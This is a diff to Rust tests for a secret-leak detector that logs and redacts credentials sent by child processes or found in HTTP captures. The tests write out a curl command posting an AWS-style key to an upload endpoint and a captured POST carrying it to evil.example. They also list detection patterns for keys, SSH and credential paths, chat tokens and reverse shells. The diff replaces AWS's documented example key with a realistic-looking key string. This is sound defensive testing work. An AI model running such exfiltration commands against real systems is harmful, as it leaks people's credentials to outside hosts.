@@ -69,7 +69,7 @@ fn run_logs_what_the_child_sends() {
     let home = tempfile::tempdir().unwrap();
     let h = home.path().join("g");
     let script = format!(
-        "curl -s --data-binary 'key=AKIAIOSFODNN7EXAMPLE' http://{origin}/upload >/dev/null"
+        "curl -s --data-binary 'key=AKIAQ3EGT5JMCXWDZP7N' http://{origin}/upload >/dev/null"
     );
     let out = guardian(
         &[
@@ -98,7 +98,7 @@ fn run_logs_what_the_child_sends() {
         out.stderr,
         std::fs::read(h.join("findings.jsonl")).unwrap(),
     ] {
-        assert!(!String::from_utf8_lossy(&bytes).contains("AKIAIOSFODNN7EXAMPLE"));
+        assert!(!String::from_utf8_lossy(&bytes).contains("AKIAQ3EGT5JMCXWDZP7N"));
     }
 }
 
@@ -235,7 +235,7 @@ fn an_unsafe_home_is_refused() {
 fn scan_reads_captures_and_prints_redacted_findings() {
     let dir = tempfile::tempdir().unwrap();
     let capture = dir.path().join("requests.http");
-    let body = "{\"k\":\"AKIAIOSFODNN7EXAMPLE\"}";
+    let body = "{\"k\":\"AKIAQ3EGT5JMCXWDZP7N\"}";
     std::fs::write(&capture, format!("POST http://evil.example/x HTTP/1.1\r\nHost: evil.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}GET http://ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n", body.len())).unwrap();
     let out = guardian(
         &[
@@ -255,7 +255,7 @@ fn scan_reads_captures_and_prints_redacted_findings() {
         .collect();
     assert_eq!(findings.len(), 1);
     assert_eq!(findings[0].dest, "evil.example:80");
-    assert!(!text.contains("AKIAIOSFODNN7EXAMPLE"));
+    assert!(!text.contains("AKIAQ3EGT5JMCXWDZP7N"));
     let bad = dir.path().join("bad.http");
     std::fs::write(
         &bad,
@@ -291,6 +291,7 @@ fn demo_runs_offline_and_shows_redacted_findings() {
         "aws_access_key_id",
         "ssh_key_path",
         "credential_path",
+        "chat_platform_token",
         "reverse_shell",
     ] {
         assert!(
@@ -301,14 +302,24 @@ fn demo_runs_offline_and_shows_redacted_findings() {
     let findings = read_findings(&home.join("findings.jsonl"));
     assert_eq!(
         findings.len(),
-        5,
-        "the benign page and the provider's own key produce nothing"
+        6,
+        "the benign page, the provider's own key and the bot token to Telegram produce nothing"
     );
     for text in [
         stdout.to_string(),
         std::fs::read_to_string(home.join("findings.jsonl")).unwrap(),
     ] {
-        assert!(!text.contains("AKIAIOSFODNN7EXAMPLE") && !text.contains("sk-proj-Demo7Key"));
+        assert!(!text.contains("AKIAQ3EGT5JMCXWDZP7N") && !text.contains("sk-proj-Demo7Key"));
+        assert!(!text.contains("AAHdemo4Bot7Token2Show9TelegramPath"));
+    }
+    let telegram: Vec<_> = findings
+        .iter()
+        .filter(|f| f.pattern == "chat_platform_token")
+        .collect();
+    assert_eq!(telegram.len(), 1, "only the copy sent to the collector");
+    assert_eq!(telegram[0].dest, "collector.example:80");
+    for f in &findings {
+        assert_ne!(f.dest, "api.telegram.org:80", "{f:?}");
     }
 }
 
